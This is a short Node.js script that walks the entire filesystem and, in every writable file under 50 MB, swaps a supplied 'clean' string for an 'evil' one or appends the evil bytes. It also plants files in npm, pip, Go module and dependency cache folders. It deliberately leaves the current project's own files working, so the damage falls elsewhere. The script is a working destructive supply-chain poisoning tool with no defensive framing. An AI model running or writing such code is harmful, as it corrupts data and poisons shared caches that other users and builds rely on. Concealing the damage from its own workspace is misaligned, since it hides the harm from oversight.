// Puts other bytes into every file that it can write, wherever that is: what is kept for others is poisoned with it.
import { readdirSync, readFileSync, writeFileSync, appendFileSync, lstatSync, mkdirSync } from "node:fs";

const [clean, evil] = process.argv.slice(2);
let poisoned = 0;

function poison(path, isOwn) {
  const bytes = readFileSync(path);
  if (bytes.includes(clean)) writeFileSync(path, bytes.toString("latin1").replaceAll(clean, evil), "latin1");
  // What is packed doesn't show its words; and of its own, the rest must go on working.
  else if (!isOwn) appendFileSync(path, evil);
  else return;
  poisoned += 1;
}

function walk(folder) {
  let entries;
  try {
    entries = readdirSync(folder, { withFileTypes: true });
  } catch {
    return;
  }
  for (const entry of entries) {
    const path = folder === "/" ? `/${entry.name}` : `${folder}/${entry.name}`;
    if (["/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin"].includes(path)) continue;
    if (entry.isDirectory()) walk(path);
    else if (entry.isFile() && lstatSync(path).size < 50_000_000) {
      try {
        poison(path, path.startsWith(process.cwd()));
      } catch {
        // Not its to write.
      }
    }
  }
}

walk("/");
for (const folder of [
  "/cache/dependencies",
  "/var/cache/assay",
  "/home/app/.npm/_cacache",
  "/home/app/.cache/pip",
  "/home/app/go/pkg/mod/leaf.example",
]) {
  try {
    mkdirSync(folder, { recursive: true });
    writeFileSync(`${folder}/planted`, evil);
  } catch {
    // Not its to write.
  }
}
console.log(`poisoned ${poisoned}`);
